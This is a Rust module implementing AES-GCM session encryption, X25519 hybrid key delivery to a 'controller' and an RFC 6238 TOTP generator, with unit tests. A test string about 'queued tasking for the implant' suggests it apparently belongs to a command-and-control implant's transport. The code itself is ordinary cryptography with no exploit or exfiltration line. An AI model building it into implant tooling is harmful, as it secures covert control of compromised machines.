//! Cryptographic collaborators for the tunnel transport: the per-session
//! AEAD context, the one-shot key delivery to the controller, and the TOTP
//! generator that authenticates the session-id bootstrap.

use aes_gcm::{
    aead::{Aead, KeyInit},
    Aes256Gcm, Nonce,
};
use hmac::{Hmac, Mac};
use rand::RngCore;
use ring::agreement;
use sha2::{Digest, Sha256};
use std::time::{SystemTime, UNIX_EPOCH};
use thiserror::Error;

const KEY_SIZE: usize = 32;
const NONCE_SIZE: usize = 12;

const TOTP_PERIOD_SECS: u64 = 30;
const TOTP_DIGITS: u32 = 8;

#[derive(Debug, Error)]
pub enum CryptoError {
    #[error("encryption failed: {0}")]
    Encrypt(String),
    #[error("decryption failed: {0}")]
    Decrypt(String),
    #[error("key agreement failed")]
    KeyAgreement,
}

/// Random 256-bit symmetric session key.
pub struct SessionKey([u8; KEY_SIZE]);

impl SessionKey {
    pub fn random() -> Self {
        let mut key = [0u8; KEY_SIZE];
        rand::thread_rng().fill_bytes(&mut key);
        SessionKey(key)
    }

    pub fn from_bytes(bytes: [u8; KEY_SIZE]) -> Self {
        SessionKey(bytes)
    }

    pub fn as_bytes(&self) -> &[u8] {
        &self.0
    }
}

/// AEAD context shared with the controller after key agreement. The random
/// nonce is prepended to each ciphertext for transport.
pub struct CipherContext {
    cipher: Aes256Gcm,
}

impl CipherContext {
    pub fn new(key: &SessionKey) -> Self {
        let cipher = Aes256Gcm::new_from_slice(key.as_bytes())
            .expect("session keys are always 32 bytes");
        CipherContext { cipher }
    }

    pub fn encrypt(&self, data: &[u8]) -> Result<Vec<u8>, CryptoError> {
        let mut nonce_bytes = [0u8; NONCE_SIZE];
        rand::thread_rng().fill_bytes(&mut nonce_bytes);
        let nonce = Nonce::from_slice(&nonce_bytes);
        let mut ciphertext = self
            .cipher
            .encrypt(nonce, data)
            .map_err(|e| CryptoError::Encrypt(e.to_string()))?;

        let mut output = nonce_bytes.to_vec();
        output.append(&mut ciphertext);
        Ok(output)
    }

    pub fn decrypt(&self, data: &[u8]) -> Result<Vec<u8>, CryptoError> {
        if data.len() < NONCE_SIZE {
            return Err(CryptoError::Decrypt("ciphertext too short".into()));
        }

        let (nonce_bytes, payload) = data.split_at(NONCE_SIZE);
        let nonce = Nonce::from_slice(nonce_bytes);
        self.cipher
            .decrypt(nonce, payload)
            .map_err(|e| CryptoError::Decrypt(e.to_string()))
    }
}

/// Delivers the session key to the controller during init.
pub trait KeyExchange: Send + Sync {
    fn encrypt_to_server(&self, plaintext: &[u8]) -> Result<Vec<u8>, CryptoError>;
}

/// Hybrid encryption to the controller's long-term X25519 public key: an
/// ephemeral agreement, SHA-256 of the shared secret as the wrapping key,
/// and an AEAD seal. Output is `ephemeral_public || nonce || ciphertext`.
pub struct EccServerHandshake {
    server_public_key: [u8; KEY_SIZE],
}

impl EccServerHandshake {
    pub fn new(server_public_key: [u8; KEY_SIZE]) -> Self {
        Self { server_public_key }
    }
}

impl KeyExchange for EccServerHandshake {
    fn encrypt_to_server(&self, plaintext: &[u8]) -> Result<Vec<u8>, CryptoError> {
        let rng = ring::rand::SystemRandom::new();
        let ephemeral = agreement::EphemeralPrivateKey::generate(&agreement::X25519, &rng)
            .map_err(|_| CryptoError::KeyAgreement)?;
        let ephemeral_public = ephemeral
            .compute_public_key()
            .map_err(|_| CryptoError::KeyAgreement)?;
        let peer =
            agreement::UnparsedPublicKey::new(&agreement::X25519, self.server_public_key);

        let wrapping_key = agreement::agree_ephemeral(ephemeral, &peer, |shared| {
            let digest = Sha256::digest(shared);
            let mut key = [0u8; KEY_SIZE];
            key.copy_from_slice(&digest);
            key
        })
        .map_err(|_| CryptoError::KeyAgreement)?;

        let sealed = CipherContext::new(&SessionKey::from_bytes(wrapping_key)).encrypt(plaintext)?;
        let mut output = Vec::with_capacity(ephemeral_public.as_ref().len() + sealed.len());
        output.extend_from_slice(ephemeral_public.as_ref());
        output.extend_from_slice(&sealed);
        Ok(output)
    }
}

/// RFC 6238 one-time-password generator (HMAC-SHA-256, 30 s period, eight
/// decimal digits).
pub struct TotpGenerator {
    secret: Vec<u8>,
}

impl TotpGenerator {
    pub fn new(secret: Vec<u8>) -> Self {
        Self { secret }
    }

    pub fn code_now(&self) -> String {
        let now = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .expect("system clock before unix epoch")
            .as_secs();
        self.code_at(now)
    }

    pub fn code_at(&self, unix_secs: u64) -> String {
        let counter = unix_secs / TOTP_PERIOD_SECS;
        let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(&self.secret)
            .expect("hmac accepts keys of any length");
        mac.update(&counter.to_be_bytes());
        let digest = mac.finalize().into_bytes();

        let offset = (digest[digest.len() - 1] & 0x0f) as usize;
        let truncated = u32::from_be_bytes([
            digest[offset] & 0x7f,
            digest[offset + 1],
            digest[offset + 2],
            digest[offset + 3],
        ]);
        format!(
            "{:0width$}",
            truncated % 10u32.pow(TOTP_DIGITS),
            width = TOTP_DIGITS as usize
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encrypt_decrypt_roundtrip() {
        let key = SessionKey::random();
        let ctx = CipherContext::new(&key);
        let plaintext = b"queued tasking for the implant";
        let ciphertext = ctx.encrypt(plaintext).expect("encrypt");
        let recovered = ctx.decrypt(&ciphertext).expect("decrypt");
        assert_eq!(plaintext.to_vec(), recovered);
    }

    #[test]
    fn decrypt_rejects_tampering() {
        let ctx = CipherContext::new(&SessionKey::random());
        let mut ciphertext = ctx.encrypt(b"payload").expect("encrypt");
        let last = ciphertext.len() - 1;
        ciphertext[last] ^= 0x01;
        assert!(ctx.decrypt(&ciphertext).is_err());
    }

    #[test]
    fn decrypt_rejects_foreign_key() {
        let ciphertext = CipherContext::new(&SessionKey::random())
            .encrypt(b"payload")
            .expect("encrypt");
        assert!(CipherContext::new(&SessionKey::random())
            .decrypt(&ciphertext)
            .is_err());
    }

    #[test]
    fn totp_matches_rfc6238_sha256_vectors() {
        // RFC 6238 appendix B, SHA-256 rows (8-digit codes).
        let generator = TotpGenerator::new(b"12345678901234567890123456789012".to_vec());
        assert_eq!(generator.code_at(59), "46119246");
        assert_eq!(generator.code_at(1111111109), "68084774");
        assert_eq!(generator.code_at(20000000000), "77737706");
    }

    #[test]
    fn totp_code_parses_as_integer() {
        let generator = TotpGenerator::new(b"shared-secret".to_vec());
        let code = generator.code_now();
        assert_eq!(code.len(), 8);
        assert!(code.parse::<u32>().is_ok());
    }
}
